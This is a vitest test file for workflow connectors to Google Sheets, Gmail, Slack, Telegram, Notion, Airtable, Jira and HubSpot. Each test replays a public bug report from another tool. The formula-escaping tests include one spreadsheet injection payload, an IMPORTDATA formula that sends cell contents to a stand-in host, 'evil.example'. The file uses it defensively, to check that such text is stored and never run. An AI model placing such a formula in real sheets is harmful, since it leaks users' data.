import { expect, test } from "vitest";
import type { Json } from "#lib/json.ts";
import { type Answer, runOperation } from "#test/connectors/run-operation.ts";

/* Public bug reports about nodes of apps in other tools, and what the operations here do with the same input. */

const place = { spreadsheet_id: "1Bxi", sheet: "Orders" };
const sheet = (...values: Json[][]): Answer => ({ body: { values } });

/** The values that the last request writes. */
async function written(type: string, input: Record<string, Json>, ...values: Json[][]) {
  const { calls, outcome } = await runOperation(`google_sheets/${type}`, { ...place, ...input }, [
    sheet(...values),
  ]);
  const sent = JSON.parse(calls.at(-1)?.sent || "null");
  return { outcome, calls, values: sent?.values ?? sent?.data?.[0]?.values };
}

test("n8n-io/n8n#10200: a row in an empty sheet brings its column names", async () => {
  const { calls } = await written("append_row", { row: { Name: "Ada", Total: 12 } });
  expect(calls.slice(1).map(({ sent }) => JSON.parse(sent).values)).toEqual([
    [["Name", "Total"]],
    [["Ada", 12]],
  ]);
});

test("n8n-io/n8n#10942: “Add or change” in an empty sheet adds", async () => {
  const row = { Order: 1042, Name: "Ada" };
  const { outcome, values } = await written("append_or_update_row", { key: "Order", row });
  expect(values).toEqual([[1042, "Ada"]]);
  expect(outcome).toMatchObject({ output: { updated: 0, added: 1 } });
});

test("n8n-io/n8n#5083: a number finds its row, whether it is sent as a number or as a text", async () => {
  for (const Order of [1042, "1042"]) {
    const input = { key: "Order", row: { Order, Name: "Ada" } };
    const { outcome } = await written(
      "append_or_update_row",
      input,
      ["Order", "Name"],
      [1041, "Bob"],
      [1042, ""],
    );
    expect(outcome).toMatchObject({ output: { updated: 1, row_numbers: [3] } });
  }
});

test("n8n-io/n8n#7463: a sheet whose header row is empty is refused with its row, and nothing runs forever", async () => {
  const input = { key: "Order", row: {} };
  const { outcome, calls } = await written("update_row", input);
  expect(outcome).toMatchObject({ kind: "fail" });
  expect(calls.length).toBeLessThan(3);
});

test("n8n-io/n8n#3395: empty cells are empty texts, not an error", async () => {
  const { outcome } = await written("read_rows", {}, ["Name", "Note"], ["Ada"], [null, "x"]);
  expect(outcome).toMatchObject({
    output: [
      { row_number: 2, Name: "Ada", Note: "" },
      { row_number: 3, Note: "x" },
    ],
  });
});

test("n8n-io/n8n#13119: the header row is no row", async () => {
  const { outcome } = await written("read_rows", {}, ["Name"], ["Ada"]);
  expect(outcome).toMatchObject({ output: [{ Name: "Ada" }] });
});

test("stitchdata/docs#498: a column name that occurs again gets a number, and blanks around names do not count", async () => {
  const header = ["Name ", " Name", "Total"];
  const { outcome } = await written("read_rows", { numbers: "false" }, header, ["Ada", "Bob", 3]);
  expect(outcome).toMatchObject({ output: [{ Name: "Ada", Name_2: "Bob", Total: 3 }] });
  const added = await written("append_row", { row: { Name: "Cy", Total: 4 } }, header, ["Ada", "Bob", 3]);
  expect(added.values).toEqual([["Cy", null, 4]]);
});

test("theoephraim/node-google-spreadsheet#381: a table that begins at another column stays there", async () => {
  const { calls, values } = await written("append_row", { row: { Name: "Cy" } }, ["", "Name"], ["", "Ada"]);
  expect(decodeURIComponent(calls.at(-1)?.url ?? "")).toContain("'Orders'!B2:B2:append");
  expect(values).toEqual([["Cy"]]);
});

/** How a text is written, in each of the three ways. */
async function cellsOf(text: string) {
  const header = [["Code"], ["a"]];
  const write = async (values: string) =>
    (await written("append_row", { row: { Code: text }, values }, ...header)).values[0][0];
  return { typed: await write("USER_ENTERED"), formulas: await write("FORMULAS"), raw: await write("RAW") };
}

test.each([
  ["jpillora/node-edit-google-spreadsheet#66", "007"],
  ["google/hyou#4", "0050"],
  ["asimlqt/php-google-spreadsheet-client#178", "04001"],
  ["opendatasicilia/tansignari#48", "091"],
  ["vlucas/sheetquery#20", "01234"],
  ["kren1/tosheets#9", "00001234"],
])("%s: the text %s keeps its zeros", async (_, text) => {
  expect(await cellsOf(text)).toEqual({ typed: `'${text}`, formulas: text, raw: text });
});

test.each([
  "=1+1",
  '=IMPORTDATA("https://evil.example/?"&A1)',
  "+49 170 1234567",
  "-A1",
  "12345678901234567890",
])("the text %s is no formula, and keeps its digits, unless formulas are wanted", async (text) => {
  expect(await cellsOf(text)).toEqual({ typed: `'${text}`, formulas: text, raw: text });
});

test.each(["2026-11-27", "-5", "0.5", "0", "Ada", "12.5 €"])(
  "Google still reads %s as typed",
  async (text) => {
    expect((await cellsOf(text)).typed).toBe(text);
  },
);

/** The message that was sent, decoded. */
const mimeOf = (sent: string) => {
  const { raw, message } = JSON.parse(sent);
  return Buffer.from(raw ?? message.raw, "base64url").toString();
};
const original: Answer = {
  body: {
    id: "m1",
    threadId: "t1",
    payload: {
      headers: [
        { name: "From", value: "Ada <ada@example.com>" },
        { name: "Subject", value: "Order 1042" },
        { name: "Message-ID", value: "<1@example.com>" },
        { name: "References", value: "<0@example.com>" },
      ],
    },
  },
};

test.each([
  ["n8n-io/n8n#17514", "שלום עולם"],
  ["badlogic/gmcli#7", "Más información"],
])("%s: the subject %s is encoded", async (_, subject) => {
  const input = { to: "ada@example.com", subject, text: "Hi" };
  const { calls } = await runOperation("gmail/send_message", input, [{ body: {} }]);
  const head = mimeOf(calls[0]?.sent ?? "").split("\r\n\r\n")[0] ?? "";
  // biome-ignore lint/suspicious/noControlCharactersInRegex: a header has ASCII alone.
  expect(head).toMatch(/^[\x00-\x7f]*$/);
  const words = [...head.matchAll(/=\?UTF-8\?([BQ])\?([^?]*)\?=/gi)].map(([, kind, word = ""]) =>
    kind?.toUpperCase() === "B"
      ? Buffer.from(word, "base64")
      : Buffer.from(
          word
            .replaceAll("_", " ")
            .replaceAll(/=([0-9A-F]{2})/gi, (_all, code) => String.fromCharCode(Number.parseInt(code, 16))),
          "latin1",
        ),
  );
  expect(Buffer.concat(words).toString()).toBe(subject);
});

test.each([
  ["n8n-io/n8n#15775", "gmail/create_draft"],
  ["n8n-io/n8n#21511", "gmail/create_draft"],
  ["n8n-io/n8n#25897", "gmail/create_draft"],
  ["n8n-io/n8n#6453", "gmail/reply_to_message"],
])("%s: %s is in the conversation, with its recipient, subject and headers", async (_, type) => {
  const { calls } = await runOperation(type, { message: "m1", text: "Yes" }, [original, { body: {} }]);
  const body = JSON.parse(calls[1]?.sent ?? "");
  expect(body.threadId ?? body.message.threadId).toBe("t1");
  const mime = mimeOf(calls[1]?.sent ?? "");
  expect(mime).toContain("In-Reply-To: <1@example.com>");
  expect(mime).toContain("References: <0@example.com> <1@example.com>");
  expect(mime).toContain("To: Ada <ada@example.com>");
  expect(mime).toContain("Subject: Re: Order 1042");
});

test.each([
  ["ansible/ansible-modules-extras#2734", "one & two"],
  ["xcarpentier/react-native-slack-webhook#4", "https://website.com/find?id=hello&otherID=again+1"],
  ["mastercoms/SlackMC#16", "R&D <soon> 100 %"],
])("%s: the text %s arrives at Slack as it was written", async (_, text) => {
  const { calls } = await runOperation("slack/post_message", { channel: "C1", text }, [
    { body: { ok: true } },
  ]);
  expect(new URLSearchParams(calls[0]?.sent).get("text")).toBe(text);
});

test("n8n-io/n8n#6117: a Slack message has a text and blocks", async () => {
  const input = { channel: "C1", text: "Hi", blocks: '[{"type":"divider"}]' };
  const { calls } = await runOperation("slack/post_message", input, [{ body: { ok: true } }]);
  expect(Object.fromEntries(new URLSearchParams(calls[0]?.sent))).toMatchObject({
    text: "Hi",
    blocks: '[{"type":"divider"}]',
  });
});

test.each([
  ["tdlib/telegram-bot-api#374", "Bad Request: message is too long"],
  ["windkh/node-red-contrib-telegrambot#239", "Bad Request: message is too long"],
  [
    "windkh/node-red-contrib-telegrambot#301",
    "Bad Request: can't parse entities: Character '-' is reserved and must be escaped with the preceding '\\'",
  ],
  [
    "n8n-io/n8n#5675",
    "Bad Request: can't parse entities: Can't find end of the entity starting at byte offset 176",
  ],
])("%s: Telegram's own words are the step's: %s", async (_, description) => {
  const input = { chat_id: "1", text: "*a-b".repeat(2000), parse_mode: "MarkdownV2" };
  const { outcome, calls } = await runOperation("telegram/send_message", input, [
    { status: 400, body: { ok: false, error_code: 400, description } },
  ]);
  // Nothing was cut to make it fit.
  expect(calls[0]?.sent).toContain("*a-b".repeat(2000));
  expect(outcome).toMatchObject({
    kind: "fail",
    retryable: false,
    error: { message: expect.stringContaining(description) },
  });
});

const properties: Answer = { body: { properties: { Name: { type: "title" }, Note: { type: "rich_text" } } } };

test.each([
  ["julien040/anyquery#31", "x".repeat(2500), [2000, 500]],
  ["Ravio1i/notion-gcal-sync#2", "x".repeat(2088), [2000, 88]],
  ["withoneai/knowledge#3", `${"x".repeat(1999)}🎉${"y".repeat(10)}`, [1999, 12]],
])(
  "%s: a long text of a Notion property is several, without halves of characters",
  async (_, Note, lengths) => {
    const input = { data_source: "d1", properties: { Name: "Ada", Note } };
    const { calls } = await runOperation("notion/create_database_page", input, [properties, { body: {} }]);
    const texts = JSON.parse(calls.at(-1)?.sent ?? "").properties.Note.rich_text;
    const parts: string[] = texts.map(({ text }: { text: { content: string } }) => text.content);
    expect(parts.map(({ length }) => length)).toEqual(lengths);
    expect(parts.join("")).toBe(Note);
    expect(parts.every((part) => part.isWellFormed())).toBe(true);
  },
);

test.each([
  ["PipedreamHQ/pipedream#9094", 131, [100, 31]],
  ["Myastr0/mk-notes#8", 191, [100, 91]],
  ["JoshStern/push-md-to-notion#3", 200, [100, 100]],
])("%s: %i blocks are added in requests of at most 100, in their order", async (_, count, sizes) => {
  const children = Array.from({ length: count }, (__, index) => ({ n: index }));
  const answers = sizes.map((size) => ({ body: { results: Array.from({ length: size }, () => ({})) } }));
  const { calls, outcome } = await runOperation("notion/append_blocks", { page: "p1", children }, answers);
  const sent = calls.map((call) => JSON.parse(call.sent).children);
  expect(sent.map(({ length }: Json[]) => length)).toEqual(sizes);
  expect(sent.flat()).toEqual(children);
  expect(outcome).toMatchObject({ kind: "done", output: { length: count } });
});

test("PipedreamHQ/pipedream#9094: if a later part fails, the step says how many blocks were added", async () => {
  const children = Array.from({ length: 150 }, () => ({}));
  const refused = { status: 500, body: { code: "internal_server_error", message: "Oops." } };
  const answers = [{ body: { results: [] } }, refused];
  const { outcome } = await runOperation("notion/append_blocks", { page: "p1", children }, answers);
  expect(outcome).toMatchObject({
    retryable: false,
    error: { message: expect.stringContaining("The first 100 blocks were added.") },
  });
});

test.each([
  ["n8n-io/n8n#20679", "airtable/upsert_record", { merge_on: "Name", match: "Name" }],
  ["n8n-io/n8n#14538", "airtable/create_record", {}],
  ["n8n-io/n8n#14338", "airtable/update_record", { record: "rec1" }],
])("%s: %s lets Airtable add an option", async (_, type, more) => {
  const input = {
    base: "app1",
    table: "Orders",
    fields: { Name: "Ada", Type: "Blue" },
    typecast: "true",
    ...more,
  };
  const { calls } = await runOperation(type, input, [{ body: { records: [{}] } }]);
  expect(JSON.parse(calls[0]?.sent ?? "")).toMatchObject({ typecast: true });
});

test.each([
  ["port-labs/ocean#3942", "Line 1\nLine 2\n\nNext", 2],
  ["github/ghas-jira-integration#119", "It came back.", 1],
])(
  "%s: a description is an Atlassian document, with %j as paragraphs and breaks",
  async (_, description, count) => {
    const input = { project: "SHOP", issue_type: "Task", summary: "Not delivered", description };
    const { calls } = await runOperation("jira/create_issue", input, [{ body: {} }], {
      fields: { site: "acme" },
    });
    const document = JSON.parse(calls[0]?.sent ?? "").fields.description;
    expect(document).toMatchObject({ type: "doc", version: 1 });
    expect(document.content).toHaveLength(count);
    expect(JSON.stringify(document)).not.toContain("\\n");
    if (count === 2)
      expect(document.content[0].content.map(({ type }: { type: string }) => type)).toEqual([
        "text",
        "hardBreak",
        "text",
      ]);
  },
);

test("Untrivial-ai/agent-orchestrator#217: a comment is a document too", async () => {
  const { calls } = await runOperation(
    "jira/add_comment",
    { issue: "SHOP-1", text: "a\r\nb" },
    [{ body: {} }],
    { fields: { site: "acme" } },
  );
  expect(JSON.parse(calls[0]?.sent ?? "").body).toMatchObject({
    content: [{ content: [{ text: "a" }, { type: "hardBreak" }, { text: "b" }] }],
  });
});

test("n8n-io/n8n#16495: any property of HubSpot can be set, by its name in the API", async () => {
  const input = {
    email: "ada@example.com",
    properties: { hs_legal_basis: "Legitimate interest", my_field: "1" },
  };
  const { calls } = await runOperation("hubspot/create_contact", input, [{ body: {} }]);
  expect(JSON.parse(calls[0]?.sent ?? "").properties).toMatchObject({
    hs_legal_basis: "Legitimate interest",
    my_field: "1",
  });
});
